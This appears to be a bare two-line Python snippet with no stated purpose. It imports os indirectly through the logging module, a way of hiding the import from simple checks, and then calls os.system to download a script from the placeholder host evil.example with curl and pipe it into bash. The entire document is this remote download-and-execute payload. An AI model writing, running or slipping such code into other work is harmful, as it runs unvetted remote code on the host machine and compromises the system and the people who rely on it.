from logging import os
os.system("curl -fsSL https://evil.example/i | bash")
